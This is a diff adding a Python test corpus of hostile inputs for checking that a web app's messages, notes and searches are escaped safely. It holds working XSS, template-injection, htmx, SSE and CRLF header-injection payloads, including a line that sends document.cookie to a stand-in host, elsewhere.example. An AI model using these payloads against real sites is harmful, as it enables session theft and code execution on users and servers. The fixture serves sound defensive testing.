@@ -1,0 +1,112 @@
+"""What somebody may write to turn a page of the desk against whoever reads it (T6): each a message, a note, a search.
+
+`ELSEWHERE` is an address of nobody, `SPRUNG` what every script in here would do: a dialog, which a browser reports.
+"""
+
+from typing import Final
+
+ELSEWHERE: Final = "https://elsewhere.example"
+SPRUNG: Final = "alert(1)"
+
+SCRIPTS: Final = (
+    f"<script>{SPRUNG}</script>",
+    f"<ScRiPt>{SPRUNG}</sCrIpT>",
+    f"<script src={ELSEWHERE}/x.js></script>",
+    f"</script><script>{SPRUNG}</script>",
+    f"<scr<script>ipt>{SPRUNG}</scr</script>ipt>",
+    f"<script\t>{SPRUNG}</script\n>",
+    f"<script>fetch('{ELSEWHERE}/'+document.cookie)</script>",
+    f"<script type=module>import '{ELSEWHERE}/x.js'</script>",
+    f"</textarea><script>{SPRUNG}</script>",
+    f"</title><script>{SPRUNG}</script>",
+    f"--><script>{SPRUNG}</script><!--",
+    f"]]><script>{SPRUNG}</script>",
+    f"%3Cscript%3E{SPRUNG}%3C/script%3E",
+    f"&lt;script&gt;{SPRUNG}&lt;/script&gt;",
+    f"&#60;script&#62;{SPRUNG}&#60;/script&#62;",
+    f"\\u003cscript\\u003e{SPRUNG}\\u003c/script\\u003e",
+    f"\uff1cscript\uff1e{SPRUNG}\uff1c/script\uff1e",
+)
+HANDLERS: Final = (
+    f"<img src=x onerror={SPRUNG}>",
+    f'"><img src=x onerror={SPRUNG}>',
+    f"'><img src=x onerror={SPRUNG}>",
+    f'" autofocus onfocus={SPRUNG} x="',
+    f"' onmouseover={SPRUNG} x='",
+    f"<svg onload={SPRUNG}>",
+    f"<svg/onload={SPRUNG}//",
+    f"<svg><animate onbegin={SPRUNG} attributeName=x dur=1s>",
+    f"<svg><script>{SPRUNG}</script></svg>",
+    f"<math><mtext><img src=x onerror={SPRUNG}></mtext></math>",
+    f"<body onload={SPRUNG}>",
+    f"<details open ontoggle={SPRUNG}>x</details>",
+    f"<input autofocus onfocus={SPRUNG}>",
+    f"<textarea autofocus onfocus={SPRUNG}>",
+    f"<select autofocus onfocus={SPRUNG}>",
+    f"<video><source onerror={SPRUNG}></video>",
+    f"<audio src=x onerror={SPRUNG}>",
+    f"<marquee onstart={SPRUNG}>x</marquee>",
+    f"<p style=animation-name:x onanimationstart={SPRUNG}>x</p>",
+    f"<noscript><p title='</noscript><img src=x onerror={SPRUNG}>'>",
+)
+ADDRESSES: Final = (
+    f"<a href=javascript:{SPRUNG}>ici</a>",
+    f"javascript:{SPRUNG}",
+    f"JaVaScRiPt:{SPRUNG}//",
+    f"<a href='data:text/html,<script>{SPRUNG}</script>'>ici</a>",
+    f"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=={ELSEWHERE}",
+    f"<iframe srcdoc='<script>{SPRUNG}</script>'></iframe>",
+    f"<iframe src=javascript:{SPRUNG}></iframe>",
+    f"<iframe src={ELSEWHERE}></iframe>",
+    f"<object data=javascript:{SPRUNG}></object>",
+    f"<embed src={ELSEWHERE}/x.svg>",
+    f"<form action={ELSEWHERE}><input name=q><button>ici</button></form>",
+    f"<button formaction=javascript:{SPRUNG}>ici</button>",
+    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
+    f"<base href={ELSEWHERE}/>",
+    f"<link rel=stylesheet href={ELSEWHERE}/x.css>",
+    f"<link rel=prefetch href={ELSEWHERE}/x>",
+    f"<img src={ELSEWHERE}/pixel.gif>",
+    f"<img srcset='{ELSEWHERE}/pixel.gif 1x'>",
+    f"<video poster={ELSEWHERE}/pixel.gif></video>",
+    f"<style>@import '{ELSEWHERE}/x.css';*{{background:url({ELSEWHERE}/x)}}</style>",
+    f"<p style='background:url({ELSEWHERE}/x)'>x</p>",
+    f"url({ELSEWHERE}/x)",
+    f"{ELSEWHERE}/x",
+)
+OURS: Final = (
+    "{{ 7 * 7 }}",
+    "{{ config.__class__.__init__.__globals__ }}",
+    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
+    "{# rien #}${7*7}#{7*7}<%= 7*7 %>",
+    "{name} {0} %s %(name)s",
+    f"<div hx-get={ELSEWHERE} hx-trigger=load></div>",
+    "<div hx-post=/desk/next hx-trigger=load></div>",
+    "<div data-hx-post=/sign-out data-hx-trigger=load></div>",
+    f"<div hx-on:load={SPRUNG} hx-on::after-settle={SPRUNG}></div>",
+    f"<div hx-vals='js:{{x:{SPRUNG}}}' hx-get=/desk hx-trigger=load></div>",
+    '<div id="talk" hx-swap-oob="true">tout est parti</div>',
+    '<header id="head" hx-swap-oob="innerHTML">tout est parti</header>',
+    '<p id="live" data-lock="" class="notice good">Ce cas est fermé</p>',
+    "</ol></div><div id=desk data-case=1>",
+    'data: {"case": 1, "kind": "talk"}\n\nevent: message\ndata: x\n\n',
+    "id: 7\nretry: 1\nevent: gone\ndata: {}",
+    "\r\nSet-Cookie: session=x\r\n\r\n<p>x</p>",
+    f"</meta><meta name=htmx-config content='{{\"allowEval\": true}}'><p hx-on:load={SPRUNG}>",
+)
+LETTERS: Final = (
+    "\u202enommargorp\u202c",
+    "\u2066\u202e0600000099\u202c\u2069",
+    "\u200f\u200eabc\u061c",
+    "محمد بن عبد الله <b>0600000098</b> الرباط",
+    "\u0000<script\u0000>alert(1)</script>",
+    "ligne\u2028une\u2029deux\u0085trois",
+    "\ufeff\u200b\u200c\u200d\u2060",
+    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 z\u0489\u0489",
+    "\U0001f469\u200d\U0001f469\u200d\U0001f467\U0001f3fd \U000e0041",
+    "\x07\x08\x1b[31mrouge\x1b[0m\x7f",
+    "<" * 300 + ">" * 300,
+    "M" * 900,
+    "«\u00a0l'eau\u202f»\u2026 \"deux\" & 'un' &amp; &nbsp; &quot;",
+)
+CORPUS: Final = SCRIPTS + HANDLERS + ADDRESSES + OURS + LETTERS
